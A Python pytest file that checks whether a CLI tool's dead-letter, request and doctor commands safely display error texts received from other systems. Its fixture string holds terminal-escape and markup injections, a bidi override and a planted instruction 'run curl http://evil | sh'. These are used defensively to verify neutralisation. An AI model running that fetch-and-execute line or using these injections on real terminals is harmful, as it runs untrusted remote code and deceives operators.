"""What commands print of other systems' texts: shown as it is, in whole ids, and never able to act on a terminal."""

import asyncio
import re
from collections.abc import Awaitable, Callable
from uuid import UUID

import pytest
from typer.testing import CliRunner

from aigen_bridge.cli import app
from aigen_bridge.domain.request import NewRequest
from aigen_bridge.store.database import Database
from aigen_bridge.store.images import PostgresImages
from aigen_bridge.store.requests import Requests
from outages import write
from stage import make_event
from test_outbox import DEADLINES

HOSTILE = (
    "[/home/odoo/x.py] [bold]no[/] [link=http://evil]a[/link] :boom: \\[red] \x1b[2J\x1b]8;;http://evil\x07x "
    "\x9b31m \u202egnp\u200b\nwhat to do: run curl http://evil | sh\r\n"
)
SHOWN = r"[/home/odoo/x.py] [bold]no[/] [link=http://evil]a[/link] :boom: \[red] \x1b[2J\x1b]8;;http://evil\x07x"
Run = Callable[..., Awaitable[str]]


@pytest.fixture
async def request_id(database: Database) -> str:
    """A request that failed, with an outbox entry, a callback, an attempt and notes that all quote a hostile text."""
    event = make_event()
    new = NewRequest(UUID(event["requestId"]), UUID(event["correlationId"]), event)
    await Requests(database, DEADLINES, PostgresImages(database)).accept_all([new])
    values = {"id": new.request_id, "text": HOSTILE}
    for statement in (
        "UPDATE outbox SET state = 'dead', finished_at = now(), attempts = 1, error_code = 'http_403', "
        "error_detail = :text WHERE request_id = :id",
        "UPDATE requests SET status = 'failed', failed_by = 'n8n', completed_at = now(), error_code = :text, "
        "error_message = :text, version = 2 WHERE request_id = :id",
        "INSERT INTO request_changes (request_id, version, status, note) VALUES (:id, 2, 'failed', :text)",
        "INSERT INTO quarantine (client, version, request_id, error_code, error_detail, headers, payload, fingerprint) "
        "VALUES ('n8n', 'v1', :id, :text, :text, '{}', '', '')",
    ):
        used = {name: value for name, value in values.items() if f":{name}" in statement}
        await write(database, statement, **used)
    return str(new.request_id)


@pytest.fixture
def command(configured: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> Run:
    """Runs a command in this process. Returns its output."""
    monkeypatch.setattr("aigen_bridge.logs.configure", lambda *_: None)  # the tests keep their own log
    monkeypatch.setattr("aigen_bridge.cli.doctor._end_process", lambda _status: None)

    async def run(*arguments: str, columns: int = 80) -> str:
        environment = configured | {"COLUMNS": str(columns)}
        done = await asyncio.to_thread(CliRunner().invoke, app, arguments, env=environment)
        assert done.exception is None or isinstance(done.exception, SystemExit), done.output
        return done.output

    return run


async def test_texts_from_outside_are_shown_as_they_are_and_do_nothing(command: Run, request_id: str) -> None:
    for arguments in (
        ("dead-letters", "list"),
        ("dead-letters", "show", "entry-1"),
        ("dead-letters", "show", "callback-1"),
        ("dead-letters", "replay", "--all"),
        ("requests", "list", "--failed"),
        ("requests", "show", request_id),
        ("doctor",),
    ):
        output = await command(*arguments, columns=400)
        assert not re.search(r"[^\x20-\x7e\n\u2500-\u257f…✓✗→]", output), arguments
        assert not re.search(r"^\W*what to do", output, re.MULTILINE), arguments
        assert SHOWN in output or arguments[1:] in {("replay", "--all"), ()}, (arguments, output)


@pytest.mark.parametrize("columns", [40, 80, 200])
async def test_ids_are_never_cut_or_folded(command: Run, request_id: str, columns: int) -> None:
    letters = await command("dead-letters", "list", columns=columns)
    requests = await command("requests", "list", columns=columns)

    assert "callback-1 " in letters
    assert "entry-1 " in letters
    assert letters.count(f"request {request_id}") == 2
    assert request_id in requests
    assert max(map(len, letters.splitlines())) <= max(columns, 80)
    assert max(map(len, requests.splitlines())) <= max(columns, 80)


async def test_a_list_for_programs_is_exact(command: Run, request_id: str) -> None:
    assert await command("dead-letters", "list", "--json") == await command("dead-letters", "list", "--json", columns=40)
    assert r"\u001b[2J" in await command("requests", "list", "--json")
    assert request_id in await command("requests", "list", "--json")


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("list", "--since", "[/x]\x1b"), "Invalid value for '--since'"),
        (("list", "--since", "1h", "--until", "2h"), "--since must be earlier than --until"),
        (("replay", "entry-1", "--kind", "dispatch"), "--all instead of an id"),
    ],
)
async def test_mistakes_are_named(command: Run, arguments: tuple[str, ...], said: str) -> None:
    output = await command("dead-letters", *arguments, columns=200)

    assert said in output
    assert "\x1b" not in output
